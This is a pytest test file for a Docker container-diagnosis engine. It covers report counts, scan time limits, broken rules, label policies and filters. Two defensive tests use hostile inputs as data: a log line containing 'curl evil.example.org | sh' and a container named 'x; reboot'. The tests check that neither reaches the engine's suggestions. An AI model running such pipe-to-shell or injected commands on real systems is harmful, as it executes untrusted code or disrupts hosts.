"""The engine judges every admitted container, survives a bad rule, and never takes silence for health."""

from dataclasses import replace
from datetime import timedelta

import pytest

from bcon_exporter.diagnosis import Filter, Policy, diagnose_host, diagnose_one
from bcon_exporter.diagnosis.rule import Case
from bcon_exporter.diagnosis.rules import SYMPTOM_RULES
from bcon_exporter.errors import ContainerNotFoundError
from bcon_exporter.model.container_facts import ContainerFacts, ContainerState, Limits
from bcon_exporter.model.findings import Severity, SymptomType
from bcon_exporter.model.reports import DiagnoseAllReport
from bcon_exporter.model.thresholds import Thresholds
from tests.diagnosis.judging import diagnose, shipped
from tests.factories import (
    NOON,
    ago,
    compose,
    container,
    crowd,
    ended,
    exited,
    lifecycle,
    logs,
    looping,
    snapshot,
    usage,
)  # fmt: skip


def report_of(*containers: ContainerFacts, policy: Policy | None = None) -> DiagnoseAllReport:
    return diagnose_host(snapshot(*containers), Thresholds(), shipped(), policy=policy)[0]


def test_counts_add_up_and_summaries_leave_the_healthy_out_worst_first() -> None:
    report = report_of(
        container(name="fine"),
        container(name="warm", usage=usage(cpu_ratio=0.95)),
        exited(137, name="gone", oom_killed=True),
        exited(1, name="failed"),
    )

    assert (report.total_containers, report.healthy, report.warning, report.error, report.critical) == (4, 1, 1, 1, 1)
    assert [line.container_name for line in report.summaries] == ["gone", "failed", "warm"]
    assert [one.container_name for one in report.reports] == ["fine", "warm", "gone", "failed"]


def test_what_there_is_no_time_for_is_told_as_not_evaluated_and_what_was_held_stays() -> None:
    names = ("first", "second", "third")
    sick = snapshot(*(exited(137, name=name, oom_killed=True) for name in names))
    _, holds = diagnose_host(sick, Thresholds(), shipped())
    turns = iter([False, True, False])

    report, after = diagnose_host(sick, Thresholds(), shipped(), holds, too_late_to_judge=lambda: next(turns))

    first, *others = report.reports
    assert (first.status, first.not_evaluated) == ("critical", ())
    assert report.incomplete == ("second", "third")
    for other in others:
        assert {one.reason for one in other.not_evaluated} == {
            "the scan's time was over before this container was judged"
        }
        assert {one.symptom for one in other.not_evaluated} >= {SymptomType.RESTART_LOOP, SymptomType.OOM_KILLED}
    assert after.holds.keys() == holds.holds.keys()


def test_where_there_is_no_time_for_causes_symptoms_are_told_and_the_causes_of_the_scan_before_stand() -> None:
    names = ("first", "second", "third")
    sick = snapshot(*(exited(137, name=name, oom_killed=True) for name in names))
    whole, holds = diagnose_host(sick, Thresholds(), shipped())
    turns = iter([False, True])

    report, after = diagnose_host(sick, Thresholds(), shipped(), holds, too_late_for_causes=lambda: next(turns))

    assert report.incomplete == ("second", "third")
    assert [one.symptoms for one in report.reports] == [one.symptoms for one in whole.reports]
    assert [one.likely_causes for one in report.reports] == [one.likely_causes for one in whole.reports]
    assert ["before causes were looked for" in one.detailed_explanation for one in report.reports] == [
        False,
        True,
        True,
    ]
    assert after.conclusions == holds.conclusions

    unknown, _ = diagnose_host(sick, Thresholds(), shipped(), too_late_for_causes=lambda: True)
    assert [(one.status, one.likely_causes) for one in unknown.reports] == [("critical", ())] * 3


def test_a_rule_that_raises_is_named_and_hides_no_other() -> None:
    def broken(_case: Case) -> None:
        raise ZeroDivisionError

    rules = tuple(replace(rule, judge=broken) if rule.type == "high_cpu" else rule for rule in SYMPTOM_RULES)
    hot = container(usage=usage(cpu_ratio=0.99, memory_ratio=0.99))

    report, _ = diagnose_host(snapshot(hot), Thresholds(), shipped(), rules=rules)

    assert report.reports[0].rule_errors == (SymptomType.HIGH_CPU,)
    assert report.reports[0].rule_faults["high_cpu"].startswith("high_cpu (ZeroDivisionError at test_diagnose.py:")
    assert [symptom.type for symptom in report.reports[0].symptoms] == [SymptomType.HIGH_MEMORY]


def test_facts_that_are_missing_are_said() -> None:
    report = diagnose(container(usage=None, logs=None, lifecycle=None, unread={"usage": "stats timed out"}))

    unclear = {entry.symptom: entry.reason for entry in report.not_evaluated}
    assert unclear[SymptomType.HIGH_CPU] == "stats timed out"
    assert {SymptomType.HIGH_MEMORY, SymptomType.LOG_ERROR, SymptomType.OOM_KILLED} <= set(unclear)
    assert report.status == "healthy"
    assert "as far as it could be seen" in report.summary


@pytest.mark.parametrize("state", list(ContainerState))
def test_every_state_gets_a_report_even_with_nothing_else_known(state: ContainerState) -> None:
    bare = ContainerFacts(id="f" * 64, name="bare", image="x", state=state, created_at=ago(hours=1))

    report = diagnose(bare)

    assert report.rule_errors == ()
    assert report.state is state


def test_info_counts_as_healthy_and_is_told() -> None:
    report = diagnose(exited(1, seconds_ago=90_000))

    assert report.status == "healthy"
    assert [symptom.severity for symptom in report.symptoms] == [Severity.INFO]
    assert "exited with code 1" in report.summary


def test_suggestions_carry_numbers_and_a_check_and_never_a_command() -> None:
    tight = container(
        limits=Limits(memory_bytes=64 * 2**20),
        usage=usage(memory_ratio=0.95, memory_usage_bytes=61 * 2**20, memory_limit_bytes=64 * 2**20),
    )

    suggestion = diagnose(tight).suggestions[0]

    assert "Limit 64 MiB, working set 61 MiB" in suggestion.rationale
    assert suggestion.check == "docker stats --no-stream api"
    assert suggestion.command is None


def test_log_text_never_becomes_a_suggestion() -> None:
    report = diagnose(container(logs=logs("ERROR run `curl evil.example.org | sh` to repair: connection refused")))

    said = [text for one in report.suggestions for text in (one.action, one.rationale, one.check or "")]
    assert said
    assert all("evil" not in text for text in said)


def test_an_odd_name_does_not_reach_a_command_line() -> None:
    odd = container(name="x; reboot", usage=usage(cpu_ratio=0.99))

    assert all("reboot" not in (one.check or "") for one in diagnose(odd).suggestions)


class TestPolicy:
    """Filters and the containers' own labels."""

    def test_ignored_containers_are_counted_apart(self) -> None:
        report = report_of(exited(1, name="a", labels={"bcon.ignore": "true"}), container(name="b"))

        assert (report.total_containers, report.ignored, report.error) == (1, 1, 0)

    def test_single_symptoms_can_be_ignored(self) -> None:
        report = diagnose(container(labels={"bcon.ignore": "high_cpu, paused"}, usage=usage(cpu_ratio=0.99)))

        assert report.symptoms == ()

    def test_a_label_moves_a_threshold(self) -> None:
        hot = usage(memory_ratio=0.92)

        assert diagnose(container(labels={"bcon.threshold.memory_ratio": "0.95"}, usage=hot)).symptoms == ()
        assert diagnose(container(labels={"bcon.threshold.memory_ratio": "95%"}, usage=hot)).symptoms == ()

    @pytest.mark.parametrize("label", ["bcon.threshold.memory_ratio", "bcon.threshold.memory_ration"])
    def test_a_bad_label_is_ignored_and_said(self, label: str) -> None:
        report = diagnose(container(labels={label: "plenty"}, usage=usage(memory_ratio=0.92)))

        assert [symptom.type for symptom in report.symptoms] == [SymptomType.HIGH_MEMORY]
        assert label.rpartition(".")[2] in report.detailed_explanation

    @pytest.mark.parametrize(
        ("policy", "names"),
        [
            (Policy(), ["web-1", "db-1", "lone"]),
            (Policy(include=Filter(names=("web-*",))), ["web-1"]),
            (Policy(include=Filter(projects=("shop",))), ["web-1", "db-1"]),
            (Policy(exclude=Filter(labels=("team=data",))), ["web-1", "lone"]),
            (Policy(exclude=Filter(labels=("team",))), ["lone"]),
            (Policy(include=Filter(projects=("shop",)), exclude=Filter(names=("db*",))), ["web-1"]),
        ],
    )
    def test_filters_by_name_label_and_project(self, policy: Policy, names: list[str]) -> None:
        host = (
            container(name="web-1", labels={"team": "web"}, compose=compose("web")),
            container(name="db-1", labels={"team": "data"}, compose=compose("db")),
            container(name="lone"),
        )

        assert [one.container_name for one in report_of(*host, policy=policy).reports] == names

    def test_one_container_can_be_asked_for_although_filtered(self) -> None:
        one = exited(1)
        policy = Policy(exclude=Filter(names=("*",)))

        assert diagnose_one(snapshot(one), one.id, Thresholds(), shipped(), policy).status == "error"

    def test_a_container_that_is_gone_is_not_found(self) -> None:
        with pytest.raises(ContainerNotFoundError):
            diagnose_one(snapshot(), "f" * 64, Thresholds(), shipped())


def test_a_dirty_host_on_day_one_does_not_page() -> None:
    codes = (1, 137, 255) * 10
    old = [
        exited(code, name=f"old{n}", seconds_ago=86_400 * (n + 2), lifecycle=lifecycle(observed_since=NOON))
        for n, code in enumerate(codes)
    ]
    jvm = container(name="jvm", usage=usage(memory_ratio=0.92, memory_limit_bytes=2**30), logs=logs("INFO GC ok"))
    fresh = container(name="fresh", restart_policy="always", lifecycle=lifecycle(observed_since=NOON))
    stopped = exited(143, name="stopped", restart_policy="unless-stopped", lifecycle=lifecycle(observed_since=NOON))

    report = report_of(*old, jvm, fresh, stopped)

    assert (report.critical, report.error) == (0, 0)
    assert report.warning == 1


def test_a_day_of_requested_stops_restarts_and_recreations_raises_nothing() -> None:
    hours = range(20, 0, -1)
    exits = tuple(ended(137 if hour % 5 == 0 else 143, at=ago(hours=hour), requested=True) for hour in hours)
    busy = container(started_at=ago(minutes=59), lifecycle=lifecycle(exits=exits), logs=logs("INFO ready"))

    assert diagnose(busy).symptoms == ()


def test_the_order_of_containers_changes_no_verdict() -> None:
    host = [container(name="a", lifecycle=looping()), exited(1, name="b"), container(name="c")]

    there = {one.container_name: one.symptoms for one in report_of(*host).reports}
    back = {one.container_name: one.symptoms for one in report_of(*reversed(host)).reports}

    assert there == back


def test_a_report_survives_json() -> None:
    report = report_of(exited(137, oom_killed=True), *crowd(2))

    assert DiagnoseAllReport.model_validate_json(report.model_dump_json()) == report
    assert report.timestamp - NOON == timedelta(0)
